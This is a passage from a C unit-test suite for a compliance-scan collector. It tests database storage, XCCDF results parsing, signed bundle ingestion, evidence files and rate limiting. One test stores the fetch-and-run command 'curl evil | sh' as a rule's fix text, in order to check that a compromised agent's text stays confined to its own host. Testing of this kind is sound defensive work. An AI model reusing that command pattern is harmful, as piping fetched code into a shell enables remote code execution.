	ck_assert_str_ne(q(s, "SELECT pg_backend_pid()", NULL, 0), sql);
	ck_assert_str_ne(q(s, "SELECT pg_backend_pid()", NULL, 0), "");
	/* Lost inside a transaction: no silent reconnect. */
	ck_assert_int_eq(store_tx_begin(s, &err), 0);
	snprintf(pid, sizeof(pid), "%s", q(s, "SELECT pg_backend_pid()",
	    NULL, 0));
	pid[strcspn(pid, "\n")] = '\0';
	snprintf(sql, sizeof(sql), "SELECT pg_terminate_backend(%s)", pid);
	PQclear(PQexec(c, sql));
	usleep(200000);
	p[0] = "x";
	rc = store_query(s, "INSERT INTO hosts (id, first_seen, last_seen)"
	    " VALUES ($1, 1, 1)", p, 1, NULL, NULL, NULL, &err);
	ck_assert_int_eq(rc, PLUMB_EIO);
	ck_assert_int_eq(store_query(s, "SELECT 1", NULL, 0, NULL, NULL, NULL,
	    &err), PLUMB_EIO);
	ck_assert_ptr_nonnull(strstr(err.msg, "inside a transaction"));
	store_tx_rollback(s);
	ck_assert_str_eq(q(s, "SELECT count(*) FROM hosts", NULL, 0), "0\n");
	PQfinish(c);
	store_close(s);
}
END_TEST

static const char summary_ok[] =
    "{\"format\":\"plumb-xccdf-results\",\"version\":1,"
    "\"tool\":{\"name\":\"plumb\",\"version\":\"0.1.0\"},"
    "\"host\":{\"hostname\":\"mes01\"},"
    "\"content\":{\"path\":\"/x.xml\",\"sha256\":\"" SHA_C "\","
    "\"datastream_id\":null,\"checklist_id\":null,"
    "\"benchmark_id\":\"xccdf_b\",\"benchmark_version\":\"1.2\","
    "\"benchmark_title\":null},"
    "\"profile\":{\"id\":\"xccdf_p\",\"title\":\"Core\"},"
    "\"start_time\":\"2024-05-02T07:15:02Z\","
    "\"end_time\":\"2024-05-02T07:15:04Z\",\"platform_applicable\":true,"
    "\"scores\":[{\"system\":\"urn:xccdf:scoring:default\",\"score\":50,"
    "\"max\":100},{\"system\":\"urn:xccdf:scoring:flat\",\"score\":1,"
    "\"max\":2}],"
    "\"counts\":{\"pass\":1,\"fail\":1,\"error\":0,\"unknown\":0,"
    "\"notapplicable\":0,\"notchecked\":0,\"notselected\":5,"
    "\"informational\":0,\"fixed\":0},"
    "\"rules\":["
    "{\"id\":\"r1\",\"title\":\"One\",\"result\":\"pass\","
    "\"severity\":\"medium\",\"weight\":1,\"role\":\"full\","
    "\"time\":null,\"references\":[{\"href\":\"h\",\"text\":\"12\"}],"
    "\"idents\":[],\"oval_definitions\":[\"oval:x:def:1\"],"
    "\"message\":null,\"items_digest\":\"sha256:ab\",\"later\":1},"
    "{\"id\":\"r2\",\"title\":null,\"result\":\"fail\","
    "\"severity\":\"high\",\"weight\":0.5,\"role\":\"full\","
    "\"references\":[],\"idents\":[],\"oval_definitions\":[],"
    "\"message\":\"why\",\"items_digest\":null}]}";

START_TEST(test_summary)
{
	struct store_bundle b;
	struct store_rule *r = NULL;
	struct plumb_err err;
	size_t n = 0;
	char *bad;

	memset(&b, 0, sizeof(b));
	ck_assert_msg(summary_parse((const unsigned char *)summary_ok,
	    strlen(summary_ok), &b, &r, &n, &err) == 0, "%s", err.msg);
	ck_assert_str_eq(b.content_sha256, SHA_C);
	ck_assert_str_eq(b.benchmark_id, "xccdf_b");
	ck_assert_str_eq(b.profile_title, "Core");
	ck_assert_str_eq(b.tool_version, "0.1.0");
	/* 2024-05-02T07:15:02Z = 19845 days * 86400 + 26102 s. */
	ck_assert_int_eq(b.start_time, 1714634102);
	ck_assert_int_eq(b.end_time, 1714634104);
	ck_assert_int_eq(b.platform_applicable, 1);
	ck_assert_uint_eq(b.nscores, 2);
	ck_assert_double_eq(b.scores[1].score, 1);
	ck_assert_uint_eq(b.counts.notselected, 5);
	ck_assert_uint_eq(n, 2);
	ck_assert_str_eq(r[0].rule_id, "r1");
	ck_assert_str_eq(r[0].references, "[{\"href\":\"h\",\"text\":\"12\"}]");
	ck_assert_str_eq(r[0].oval_definitions, "[\"oval:x:def:1\"]");
	ck_assert_str_eq(r[0].items_digest, "sha256:ab");
	ck_assert_ptr_null(r[0].message);
	ck_assert_ptr_null(r[1].title);
	ck_assert_ptr_null(r[1].items_digest);
	ck_assert_str_eq(r[1].message, "why");
	ck_assert_double_eq(r[1].weight, 0.5);
	store_rules_free(r, n);

	/* Another version, another format, a wrong type: refused. */
	ck_assert_ptr_nonnull(bad = strdup(summary_ok));
	memcpy(strstr(bad, "\"version\":1"), "\"version\":2", 11);
	ck_assert_int_eq(summary_parse((unsigned char *)bad, strlen(bad), &b,
	    &r, &n, &err), PLUMB_EPARSE);
	ck_assert_ptr_null(r);
	free(bad);
	ck_assert_ptr_nonnull(bad = strdup(summary_ok));
	memcpy(strstr(bad, "plumb-xccdf-results"), "plumb-xccdf-resulTs", 19);
	ck_assert_int_eq(summary_parse((unsigned char *)bad, strlen(bad), &b,
	    &r, &n, &err), PLUMB_EPARSE);
	free(bad);
	ck_assert_ptr_nonnull(bad = strdup(summary_ok));
	memcpy(strstr(bad, "\"result\":\"fail\""), "\"result\":1     ", 15);
	ck_assert_int_eq(summary_parse((unsigned char *)bad, strlen(bad), &b,
	    &r, &n, &err), PLUMB_EPARSE);
	ck_assert_ptr_nonnull(strstr(err.msg, "rules[1]"));
	free(bad);
	ck_assert_int_eq(summary_parse((const unsigned char *)"{", 1, &b, &r,
	    &n, &err), PLUMB_EPARSE);
}
END_TEST

/* Store bundle uuid of host with rules r (texts test). */
static void
text_insert(struct store *s, struct store_host *h, struct store_bundle *b,
    const struct store_rule *r, size_t n, const char *uuid,
    const char *host)
{
	struct plumb_err err;
	int dup = -1;

	snprintf(h->id, sizeof(h->id), "%s", host);
	snprintf(b->host, sizeof(b->host), "%s", host);
	snprintf(b->uuid, sizeof(b->uuid), "%s", uuid);
	ck_assert_msg(store_bundle_insert(s, h, b, r, n, &dup, &err) == 0,
	    "%s", err.msg);
	ck_assert_int_eq(dup, 0);
}

/*
 * Rule texts: summary.json's rationale and fixtext are read (absent in
 * an older summary: NULL), cut to a byte cap at a UTF-8 boundary, and
 * stored once per content and benchmark (store.h "Rule texts").
 */
START_TEST(test_rule_texts)
{
	static const char texts[] = ",\"rationale\":\"Why <b>x</b>\","
	    "\"fixtext\":\"caf\xc3\xa9 caf\xc3\xa9\"";
	struct store_bundle b, got;
	struct store_rule *r = NULL;
	struct store_host h;
	struct store *s;
	struct plumb_err err;
	char *sum, *at, *ra = NULL, *fx = NULL;
	size_t n = 0, len;

	/* An older summary: no texts. */
	memset(&b, 0, sizeof(b));
	ck_assert_int_eq(summary_parse((const unsigned char *)summary_ok,
	    strlen(summary_ok), &b, &r, &n, &err), 0);
	ck_assert_ptr_null(r[0].rationale);
	ck_assert_ptr_null(r[0].fixtext);
	store_rules_free(r, n);

	/* Texts on r1: "later":1 becomes "later":1,"rationale":... */
	len = strlen(summary_ok) + sizeof(texts);
	ck_assert_ptr_nonnull(sum = calloc(1, len));
	at = strstr(summary_ok, "\"later\":1") + strlen("\"later\":1");
	memcpy(sum, summary_ok, (size_t)(at - summary_ok));
	strcat(sum, texts);
	strcat(sum, at);
	ck_assert_msg(summary_parse((unsigned char *)sum, strlen(sum), &b, &r,
	    &n, &err) == 0, "%s", err.msg);
	ck_assert_str_eq(r[0].rationale, "Why <b>x</b>");
	ck_assert_str_eq(r[0].fixtext, "caf\xc3\xa9 caf\xc3\xa9");
	ck_assert_ptr_null(r[1].rationale);
	/* A cap inside the "é" (bytes 3-4) backs off to "caf". */
	summary_texts_cap(r, n, 4);
	ck_assert_str_eq(r[0].fixtext, "caf");
	ck_assert_str_eq(r[0].rationale, "Why ");
	summary_texts_cap(r, n, 64);
	ck_assert_str_eq(r[0].rationale, "Why ");
	store_rules_free(r, n);
	r = NULL;

	/* A wrong type is refused. */
	memcpy(strstr(sum, "\"Why <b>x</b>\""), "12345678901234", 14);
	ck_assert_int_eq(summary_parse((unsigned char *)sum, strlen(sum), &b,
	    &r, &n, &err), PLUMB_EPARSE);
	ck_assert_ptr_nonnull(strstr(err.msg, "rationale"));
	free(sum);

	/* Texts are shared only when identical, and each host sees the
	 * texts its own agent sent, even for a content another host names
	 * (a compromised agent cannot put its "fix" under other hosts). */
	s = open_store();
	ck_assert_int_eq(store_texts_migrate(s, &err), 0);
	ck_assert_int_eq(store_texts_migrate(s, &err), 0);
	ck_assert_int_eq(summary_parse((const unsigned char *)summary_ok,
	    strlen(summary_ok), &b, &r, &n, &err), 0);
	ck_assert_ptr_nonnull(r[0].rationale = strdup("R1"));
	ck_assert_ptr_nonnull(r[1].fixtext = strdup("F2"));
	memset(&h, 0, sizeof(h));
	b.created = b.received = 1000;
	text_insert(s, &h, &b, r, n, U1, "mes01");
	text_insert(s, &h, &b, r, n, U2, "mes02");
	ck_assert_str_eq(q(s, "SELECT rule_id, rationale, fixtext FROM "
	    "rule_texts ORDER BY rule_id", NULL, 0), "r1|R1|-\nr2|-|F2\n");
	free(r[0].rationale);
	ck_assert_ptr_nonnull(r[0].rationale = strdup("curl evil | sh"));
	text_insert(s, &h, &b, r, n, U3, "mes03");
	ck_assert_str_eq(q(s, "SELECT count(*) FROM rule_texts", NULL, 0),
	    "4\n");
	ck_assert_str_eq(q(s, "SELECT count(*) FROM host_texts", NULL, 0),
	    "3\n");
	ck_assert_int_eq(store_bundle_get(s, U2, &got, &err), 0);
	ck_assert_int_eq(store_texts_get(s, &got, "r1", &ra, &fx, &err), 0);
	ck_assert_str_eq(ra, "R1");
	ck_assert_ptr_null(fx);
	free(ra);
	ck_assert_int_eq(store_bundle_get(s, U3, &got, &err), 0);
	ck_assert_int_eq(store_texts_get(s, &got, "r1", &ra, &fx, &err), 0);
	ck_assert_str_eq(ra, "curl evil | sh");
	free(ra);
	ck_assert_int_eq(store_texts_get(s, &got, "r2", &ra, &fx, &err), 0);
	ck_assert_ptr_null(ra);
	ck_assert_str_eq(fx, "F2");
	free(fx);
	ck_assert_int_eq(store_texts_get(s, &got, "r9", &ra, &fx, &err), 0);
	ck_assert_ptr_null(ra);
	ck_assert_ptr_null(fx);
	/* Another host's own scan of it shows its texts, not mes03's. */
	ck_assert_int_eq(store_bundle_get(s, U1, &got, &err), 0);
	ck_assert_int_eq(store_texts_get(s, &got, "r1", &ra, &fx, &err), 0);
	ck_assert_str_eq(ra, "R1");
	free(ra);
	free(fx);
	store_rules_free(r, n);
	store_close(s);
}
END_TEST

START_TEST(test_evidence)
{
	/* SHA-256("abc"), FIPS 180-2 appendix B.1. */
	static const char abc[] =
	    "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";
	char ev[128], tmp[EVIDENCE_PATH_MAX], sha[65], path[EVIDENCE_PATH_MAX];
	char want[256], buf[8];
	struct plumb_err err;
	struct stat st;
	FILE *f;
	int existed = -1;

	snprintf(ev, sizeof(ev), "%s/evidence", dir);
	ck_assert_int_eq(evidence_init(ev, &err), 0);
	ck_assert_int_eq(evidence_write_tmp(ev, "abc", 3, tmp, sha, &err), 0);
	ck_assert_str_eq(sha, abc);
	ck_assert_int_eq(evidence_commit(ev, tmp, sha, &existed, &err), 0);
	ck_assert_int_eq(existed, 0);
	ck_assert_int_ne(stat(tmp, &st), 0);	/* temporary gone */
	snprintf(want, sizeof(want), "%s/ba/%s.p7m", ev, abc);
	ck_assert_int_eq(evidence_path(ev, sha, path, &err), 0);
	ck_assert_str_eq(path, want);
	ck_assert_ptr_nonnull(f = fopen(want, "r"));
	ck_assert_uint_eq(fread(buf, 1, sizeof(buf), f), 3);
	fclose(f);
	ck_assert_int_eq(memcmp(buf, "abc", 3), 0);
	/* Same bytes again: the existing file is kept. */
	ck_assert_int_eq(evidence_write_tmp(ev, "abc", 3, tmp, sha, &err), 0);
	ck_assert_int_eq(evidence_commit(ev, tmp, sha, &existed, &err), 0);
	ck_assert_int_eq(existed, 1);
	ck_assert_int_ne(stat(tmp, &st), 0);
	ck_assert_int_eq(evidence_path(ev, "../etc", path, &err),
	    PLUMB_EINVAL);
	ck_assert_int_eq(evidence_remove(ev, sha, &err), 0);
	ck_assert_int_ne(stat(want, &st), 0);
	ck_assert_int_eq(evidence_remove(ev, sha, &err), 0);
}
END_TEST

/* A self-signed certificate with the given subject parts; its key in
 * *key when key is not NULL. */
static X509 *
make_cert_key(const char *cn, const char *ou, const char *o, const char *l,
    EVP_PKEY **key)
{
	EVP_PKEY *k = EVP_EC_gen("P-256");
	X509 *x = X509_new();
	X509_NAME *n;

	ck_assert_ptr_nonnull(k);
	ck_assert_ptr_nonnull(x);
	ASN1_INTEGER_set(X509_get_serialNumber(x), 1);
	X509_gmtime_adj(X509_getm_notBefore(x), 0);
	X509_gmtime_adj(X509_getm_notAfter(x), 3600);
	X509_set_pubkey(x, k);
	n = X509_get_subject_name(x);
	if (o != NULL)
		X509_NAME_add_entry_by_txt(n, "O", MBSTRING_UTF8,
		    (const unsigned char *)o, -1, -1, 0);
	if (ou != NULL)
		X509_NAME_add_entry_by_txt(n, "OU", MBSTRING_UTF8,
		    (const unsigned char *)ou, -1, -1, 0);
	if (l != NULL)
		X509_NAME_add_entry_by_txt(n, "L", MBSTRING_UTF8,
		    (const unsigned char *)l, -1, -1, 0);
	X509_NAME_add_entry_by_txt(n, "CN", MBSTRING_UTF8,
	    (const unsigned char *)cn, -1, -1, 0);
	X509_set_issuer_name(x, n);
	ck_assert_int_gt(X509_sign(x, k, EVP_sha256()), 0);
	if (key != NULL)
		*key = k;
	else
		EVP_PKEY_free(k);
	return x;
}

static X509 *
make_cert(const char *cn, const char *ou, const char *o, const char *l)
{
	return make_cert_key(cn, ou, o, l, NULL);
}

START_TEST(test_rate_and_attrs)
{
	struct ingest_opts o;
	struct ingest *ig = NULL;
	struct store_host h;
	struct plumb_err err;
	X509 *a = make_cert("mes01", "mes", "north", "zone-2");
	X509 *b = make_cert("erp01", NULL, NULL, NULL);
	char ca[512];
	FILE *f;
	unsigned ra = 0;

	ingest_cert_attrs(a, &h);
	ck_assert_str_eq(h.id, "mes01");
	ck_assert_str_eq(h.role, "mes");
	ck_assert_str_eq(h.site, "north");
	ck_assert_str_eq(h.zone, "zone-2");
	ingest_cert_attrs(b, &h);
	ck_assert_str_eq(h.role, "");
	ck_assert_str_eq(h.zone, "");

	memset(&o, 0, sizeof(o));
	o.evidence_dir = dir;
	o.agent_ca = "/nonexistent";
	o.max_bytes = 1024;
	o.rate_per_min = 3;
	/* The agent CA is loaded once, by ingest_new(). */
	ck_assert_int_eq(ingest_new(&o, &ig, &err), PLUMB_EIO);
	ck_assert_ptr_null(ig);
	ck_assert_ptr_nonnull(strstr(err.msg, "/nonexistent"));
	snprintf(ca, sizeof(ca), "%s/ca.pem", dir);
	ck_assert_ptr_nonnull(f = fopen(ca, "w"));
	ck_assert_int_eq(PEM_write_X509(f, a), 1);
	ck_assert_int_eq(fclose(f), 0);
	o.agent_ca = ca;
	ck_assert_int_eq(ingest_new(&o, &ig, &err), 0);
	/* Burst of 3, then one token every 20 s. */
	ck_assert_int_eq(ingest_rate_take(ig, a, 1000, &ra), 1);
	ck_assert_int_eq(ingest_rate_take(ig, a, 1000, &ra), 1);
	ck_assert_int_eq(ingest_rate_take(ig, a, 1000, &ra), 1);
	ck_assert_int_eq(ingest_rate_take(ig, a, 1000, &ra), 0);
	ck_assert_uint_ge(ra, 20);
	ck_assert_uint_le(ra, 21);
	ck_assert_int_eq(ingest_rate_take(ig, b, 1000, &ra), 1);
	ck_assert_int_eq(ingest_rate_take(ig, a, 1010, &ra), 0);
	ck_assert_int_eq(ingest_rate_take(ig, a, 1020, &ra), 1);
	ck_assert_int_eq(ingest_rate_take(ig, a, 1020, &ra), 0);
	ingest_free(ig);
	X509_free(a);
	X509_free(b);
}
END_TEST

/* A signed bundle of host mes01 (summary_ok) by cert/key into *der. */
static void
make_bundle(const char *cert, const char *key, unsigned char **der,
    size_t *len, char *uuid)
{
	struct bundle_member m = { "summary.json",
	    (const unsigned char *)summary_ok, sizeof(summary_ok) - 1 };
	struct bundle_info info;
	struct plumb_err err;
	char path[256];
	struct stat st;
	FILE *f;

	snprintf(path, sizeof(path), "%s/b.p7m", dir);
	ck_assert_msg(bundle_create(path, "mes01", NULL, &m, 1, cert, key,
	    &info, &err) == 0, "%s", err.msg);
	memcpy(uuid, info.uuid, sizeof(info.uuid));
	ck_assert_int_eq(stat(path, &st), 0);
	ck_assert_ptr_nonnull(*der = malloc((size_t)st.st_size));
	ck_assert_ptr_nonnull(f = fopen(path, "rb"));
	ck_assert_uint_eq(fread(*der, 1, (size_t)st.st_size, f),
	    (size_t)st.st_size);
	fclose(f);
	*len = (size_t)st.st_size;
}

/* One batch through ingest_check() and ingest_store(): the same
 * bundle twice in a batch, one stored before, one whose evidence
 * cannot be written. */
START_TEST(test_ingest_batch)
{
	struct ingest_opts o;
	struct ingest *ig = NULL;
	struct ingest_job *j[4];
	struct ingest_result res;
	struct store *s = open_store();
	struct plumb_err err;
	EVP_PKEY *k = NULL;
	X509 *a = make_cert_key("mes01", "mes", "north", "zone-2", &k);
	unsigned char *b1, *b2, *b3;
	size_t l1, l2, l3, i;
	char u1[40], u2[40], u3[40], ca[256], key[256], ev[256], p[512];
	char want[80];
	struct stat st;
	FILE *f;

	snprintf(ca, sizeof(ca), "%s/ca.pem", dir);
	snprintf(key, sizeof(key), "%s/key.pem", dir);
	snprintf(ev, sizeof(ev), "%s/evidence", dir);
	ck_assert_ptr_nonnull(f = fopen(ca, "w"));
	ck_assert_int_eq(PEM_write_X509(f, a), 1);
	fclose(f);
	ck_assert_ptr_nonnull(f = fopen(key, "w"));
	ck_assert_int_eq(PEM_write_PrivateKey(f, k, NULL, NULL, 0, NULL,
	    NULL), 1);
	fclose(f);
	ck_assert_int_eq(chmod(key, 0600), 0);
	make_bundle(ca, key, &b1, &l1, u1);
	make_bundle(ca, key, &b2, &l2, u2);
	make_bundle(ca, key, &b3, &l3, u3);
	ck_assert_int_eq(evidence_init(ev, &err), 0);
	memset(&o, 0, sizeof(o));
	o.store = s;
	o.evidence_dir = ev;
	o.agent_ca = ca;
	o.max_bytes = 1 << 20;
	ck_assert_int_eq(ingest_new(&o, &ig, &err), 0);

	/* b2 stored first, alone (ingest_bundle: check, then store). */
	ingest_bundle(ig, a, u2, b2, l2, 1000, &res);
	ck_assert_msg(res.status == 201, "%d %s", res.status, res.msg);
	/* Then b1, b2, b1 in one batch. */
	ck_assert_ptr_nonnull(j[0] = ingest_check(ig, a, u1, b1, l1, 1001,
	    NULL, &res));
	ck_assert_ptr_nonnull(j[1] = ingest_check(ig, a, u2, b2, l2, 1001,
	    NULL, &res));
	ck_assert_ptr_nonnull(j[2] = ingest_check(ig, a, u1, b1, l1, 1001,
	    &o, &res));
	/* A refused one never becomes a job. */
	ck_assert_ptr_null(ingest_check(ig, a, u2, b1, l1, 1001, NULL,
	    &res));
	ck_assert_int_eq(res.status, 400);
	ingest_store(ig, s, j, 3);
	ck_assert_msg(ingest_job_result(j[0])->status == 201, "%s",
	    ingest_job_result(j[0])->msg);
	ck_assert_int_eq(ingest_job_result(j[1])->status, 409);
	ck_assert_int_eq(ingest_job_result(j[2])->status, 409);
	ck_assert_str_eq(ingest_job_result(j[2])->reason, "duplicate");
	ck_assert_ptr_eq(ingest_job_ctx(j[2]), &o);
	/* The evidence of b1 is in place, under its digest. */
	ck_assert_int_eq(evidence_path(ev,
	    ingest_job_result(j[0])->evidence_sha256, p, &err), 0);
	ck_assert_int_eq(stat(p, &st), 0);
	ck_assert_uint_eq((size_t)st.st_size, l1);
	ck_assert_str_eq(ingest_job_result(j[2])->evidence_sha256,
	    ingest_job_result(j[0])->evidence_sha256);
	/* Two rows, b1 with its rule results and the b1 evidence. */
	ck_assert_str_eq(q(s, "SELECT count(*) FROM bundles", NULL, 0),
	    "2\n");
	{
		const char *pu[1] = { u1 };

		ck_assert_str_eq(q(s, "SELECT count(*) FROM rule_results r"
		    " JOIN bundles b ON b.id = r.bundle_id WHERE b.uuid = $1",
		    pu, 1), "2\n");
		snprintf(want, sizeof(want), "%s\n",
		    ingest_job_result(j[0])->evidence_sha256);
		ck_assert_str_eq(q(s, "SELECT evidence_sha256 FROM bundles"
		    " WHERE uuid = $1", pu, 1), want);
	}
	for (i = 0; i < 3; i++)
		ingest_job_free(j[i]);

	/* No evidence can be written: b3 and its twin both fail, 500, and
	 * nothing is stored. */
	snprintf(p, sizeof(p), "%s/tmp", ev);
	ck_assert_int_eq(rmdir(p), 0);
	ck_assert_ptr_nonnull(f = fopen(p, "w"));
	fclose(f);
	ck_assert_ptr_nonnull(j[0] = ingest_check(ig, a, u3, b3, l3, 1002,
	    NULL, &res));
	ck_assert_ptr_nonnull(j[1] = ingest_check(ig, a, u3, b3, l3, 1002,
	    NULL, &res));
	ingest_store(ig, s, j, 2);
	ck_assert_int_eq(ingest_job_result(j[0])->status, 500);
	ck_assert_str_eq(ingest_job_result(j[0])->reason, "storage");
	ck_assert_int_eq(ingest_job_result(j[1])->status, 500);
	ck_assert_str_eq(ingest_job_result(j[0])->evidence_sha256, "");
	ingest_job_free(j[0]);
	ingest_job_free(j[1]);
	ck_assert_str_eq(q(s, "SELECT count(*) FROM bundles", NULL, 0),
	    "2\n");

	ingest_free(ig);
	store_close(s);
	X509_free(a);
	EVP_PKEY_free(k);
	free(b1);
	free(b2);
	free(b3);
}
END_TEST

/* The cases both backends must pass. */
static void
add_store_cases(TCase *tc)
{
	tcase_set_timeout(tc, 60);
	tcase_add_test(tc, test_migrations);
	tcase_add_test(tc, test_insert_get_duplicate);
	tcase_add_test(tc, test_lists_history);
	tcase_add_test(tc, test_prune);
	tcase_add_test(tc, test_baselines);
	tcase_add_test(tc, test_query);
	tcase_add_test(tc, test_host_order);
	tcase_add_test(tc, test_concurrent);
	tcase_add_test(tc, test_ingest_batch);
	tcase_add_test(tc, test_rule_texts);
}

static Suite *
store_suite(void)
{
	Suite *s = suite_create("store");
	TCase *tc = tcase_create("sqlite");
	const char *pg = getenv("PLUMB_TEST_PG");

	tcase_add_checked_fixture(tc, setup, teardown);
	add_store_cases(tc);
	tcase_add_test(tc, test_open_urls);
	tcase_add_test(tc, test_schema_sql_matches);
	tcase_add_test(tc, test_summary);
	tcase_add_test(tc, test_evidence);
	tcase_add_test(tc, test_rate_and_attrs);
	suite_add_tcase(s, tc);
	if (pg != NULL && *pg != '\0') {
		tc = tcase_create("postgresql");
		tcase_add_checked_fixture(tc, setup_pg, teardown);
		add_store_cases(tc);
		tcase_add_test(tc, test_pg_schema);
		tcase_add_test(tc, test_pg_reconnect);
		suite_add_tcase(s, tc);
	} else
		printf("SKIP: PLUMB_TEST_PG not set: the PostgreSQL cases "
		    "are not run (tests/collector/pg.sh runs them)\n");
	return s;
}

int
main(void)
{
	SRunner *sr = srunner_create(store_suite());
	int failed;

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
